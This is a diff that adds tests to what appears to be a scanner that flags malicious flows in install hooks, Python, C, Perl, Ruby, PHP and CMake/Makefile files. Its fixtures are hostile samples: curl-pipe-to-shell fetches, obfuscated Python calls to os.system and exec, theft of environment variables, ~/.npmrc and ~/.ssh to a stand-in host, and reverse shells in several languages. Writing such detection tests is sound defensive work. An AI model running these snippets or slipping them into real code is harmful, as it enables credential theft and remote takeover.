@@ -2,6 +2,8 @@ import t from 'tap'
 import * as fc from 'fast-check'
 import { readScript } from '../../../../lib/inspect/script/read-script.ts'
 import type { Dialect, ScriptReading } from '../../../../lib/inspect/script/script-reading.ts'
+import { commandsOf, listsOf } from '../../../../lib/inspect/script/cmake.ts'
+import { includesOf, recipesOf } from '../../../../lib/inspect/script/makefile.ts'
 import { HOLE } from '../../../../lib/types.ts'
 
 function read(text: string, dialect: Dialect = 'hook'): ScriptReading {
@@ -190,9 +192,139 @@ t.test('code inside a command is handed on in its language', t => {
   t.end()
 })
 
+t.test('names of Python that are put together or given anew are still those', t => {
+  const cases: [string, string][] = [
+    ['run = os.system\nrun("curl http://h.invalid/x | sh")', 'network:http://h.invalid/x > evaluate:code'],
+    [
+      'r = getattr(requests, "po" + "st")\nr("http://h.invalid", data=dict(os.environ))',
+      'env:os.environ > network:payload',
+    ],
+    [
+      '__import__("o" + "s").system("curl -d @~/.npmrc h.invalid")',
+      'credential-file:~/.npmrc > network:payload',
+    ],
+    [
+      'e = getattr(__builtins__, "ex" + "ec", None) or exec\ne(requests.get("http://h.invalid/x").text)',
+      'network:http://h.invalid/x > evaluate:code',
+    ],
+    [
+      'e = getattr(__import__("builtins"), "".join(["e", "xec"]))\ne(requests.get("http://h.invalid/x").text)',
+      'network:http://h.invalid/x > evaluate:code',
+    ],
+    [
+      'getattr(os, "metsys"[::-1])("curl http://h.invalid/x | sh")',
+      'network:http://h.invalid/x > evaluate:code',
+    ],
+    [
+      'getattr(os, chr(115) + "ystem")("curl http://h.invalid/x | sh")',
+      'network:http://h.invalid/x > evaluate:code',
+    ],
+  ]
+  for (const [text, expected] of cases) {
+    const found = flowsOf(read(`import os, requests\n${text}\n`, 'python'))
+    t.ok(found.includes(expected), `${text}: ${found.join(', ')}`)
+  }
+  const honest = [
+    'run = os.system\nrun = print\nrun("curl h.invalid | sh")',
+    'getattr(c, name)()\nx = importlib.import_module(name)',
+  ]
+  for (const text of honest)
+    t.strictSame(flowsOf(read(`import os, importlib\n${text}\n`, 'python')), [], text)
+  t.end()
+})
+
+t.test('native code is read for what it starts and whom it tells', t => {
+  const shell = '"/bin/sh"'
+  const cases: [string, string][] = [
+    [
+      'int a(void) { return system("curl -s http://h.invalid/x | sh"); }',
+      'network:http://h.invalid/x > evaluate:code',
+    ],
+    [
+      '#define B "http://h.invalid"\nstatic const char C[] = "curl " B "/x | sh";\nvoid a() { system(C); }',
+      'network:http://h.invalid/x > evaluate:code',
+    ],
+    [
+      'extern char** environ;\nvoid a() { for (char** e = environ; *e; e++) {} popen("curl -d @- http://h.invalid", "w"); }',
+      'env:environ > network:payload',
+    ],
+    [
+      `void a() { connect(s, x, n); dup2(s, 0); execl(${shell}, "sh", "-i", NULL); } const char* h = "203.0.113.5";`,
+      'network:203.0.113.5 > command-stdin:payload',
+    ],
+    [
+      `void a() { connect(s, x, n); dup2(s, 0); char* v[] = {"sh", NULL}; execve(${shell}, v, NULL); } const char* h = "h.invalid";`,
+      'network:h.invalid > command-stdin:payload',
+    ],
+    [
+      'void a() { WSAConnect(s, x, n); i.hStdInput = s; CreateProcessA(NULL, "cmd.exe", 0); }',
+      `network:${HOLE} > command-stdin:payload`,
+    ],
+    [
+      'void a() { std::ifstream f(h + "/.npmrc"); getaddrinfo("h.invalid", "80", &i, &r); connect(s, r, n); send(s, b, n, 0); }',
+      'credential-file:~/.npmrc > network:payload',
+    ],
+  ]
+  for (const [text, expected] of cases) {
+    const found = flowsOf(read(text, 'native'))
+    t.ok(found.includes(expected), `${text}: ${found.join(', ')}`)
+  }
+  const honest = [
+    '// system("curl http://h.invalid | sh")\n/*\n * execl("/bin/sh", "sh")\n */',
+    'int a(const char* u) { char c[99]; snprintf(c, 99, "xdg-open %s", u); return system(c); }',
+    'void a() { FILE* f = popen("ip route show default", "r"); }',
+    `void a() { forkpty(&m, 0, 0, 0); dup2(x, 0); execl(${shell}, "sh", "-c", c, NULL); }`,
+    'int c(const char* host) { getaddrinfo(host, "80", &i, &r); connect(s, r, n); send(s, b, n, 0); open("/.netrc"); }',
+  ]
+  for (const text of honest) t.strictSame(flowsOf(read(text, 'native')), [], text)
+  t.end()
+})
+
+t.test('a socket that becomes the input of a shell is one in every language', t => {
+  const cases: [string, string][] = [
+    [
+      "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'h.invalid', PeerPort => 1);\nopen(STDIN, '<&', $s);\nexec('/bin/sh', '-i');",
+      'h.invalid',
+    ],
+    [
+      "require 'socket'\ns = TCPSocket.new('h.invalid', 1)\nexec('/bin/bash', '-i', in: s, out: s)",
+      'h.invalid',
+    ],
+    ['<?php $s = fsockopen("h.invalid", 1); proc_open("/bin/sh -i", [0 => $s], $p);', 'h.invalid'],
+  ]
+  for (const [text, host] of cases)
+    t.ok(flowsOf(read(text, 'coarse')).includes(`network:${host} > command-stdin:payload`), text)
+  const honest =
+    "use HTTP::Tiny;\nopen(STDERR, '>&', STDOUT);\nsystem('sh', '-c', 'ls');\nHTTP::Tiny->new->get('http://h.invalid/x');"
+  t.notOk(flowsOf(read(honest, 'coarse')).some(flow => flow.includes('command-stdin')))
+  t.end()
+})
+
+t.test('build files are read with what they take in', t => {
+  const list =
+    'set(URL "https://h.invalid/b")\ninclude(cmake/deps.cmake)\ninclude(GNUInstallDirs)\nadd_subdirectory(sub)\nfile(DOWNLOAD ${URL}/x ${CMAKE_BINARY_DIR}/x)\nexecute_process(COMMAND sh -c "${CMAKE_BINARY_DIR}/x")'
+  t.strictSame(commandsOf(list).split('\n').slice(4), [
+    'curl -o build/x https://h.invalid/b/x',
+    'sh -c "build/x"',
+  ])
+  t.strictSame(listsOf(list), ['cmake/deps.cmake', 'cmake/GNUInstallDirs.cmake', 'sub/CMakeLists.txt'])
+  const makefile = '-include config.mk other.mk\nall: deps\n\t@echo\nclean: rest\n'
+  t.strictSame(includesOf(makefile, []), { paths: ['config.mk', 'other.mk'], targets: ['all', 'deps'] })
+  t.strictSame(recipesOf('deps:\n\tcurl a\nrest:\n\tcurl b\n', ['all', 'deps']), '\ncurl a\n\n\n')
+  t.end()
+})
+
 t.test('data that leaves is a flow from where it came from to where it goes', t => {
   const cases: [string, string][] = [
     ['curl https://h.invalid/$(whoami)', 'host:whoami > network:dest'],
+    [
+      'd=$(mktemp -d); cp ~/.npmrc $d/; tar czf - -C $d . | base64 | curl -d @- https://h.invalid',
+      'credential-file:~/.npmrc > network:payload',
+    ],
+    [
+      'ditto -c -k ~/.ssh /tmp/a.zip; curl -F f=@/tmp/a.zip https://h.invalid',
+      'credential-file:~/.ssh > network:payload',
+    ],
     ['curl https://h.invalid/?u=$USER', 'host:USER > network:dest'],
     ['curl -d "$(env)" https://h.invalid', 'env:env > network:payload'],
     ['curl --data-binary=@/etc/passwd https://h.invalid', 'credential-file:/etc/passwd > network:payload'],
@@ -473,7 +605,7 @@ t.test('places point into the text', t => {
 })
 
 t.test('no text makes a reader throw, loop or take long', t => {
-  const dialects: Dialect[] = ['hook', 'shell', 'batch', 'powershell', 'python']
+  const dialects: Dialect[] = ['hook', 'shell', 'batch', 'powershell', 'python', 'native', 'coarse']
   const bit = fc.constantFrom(
     '$(',
     '`',
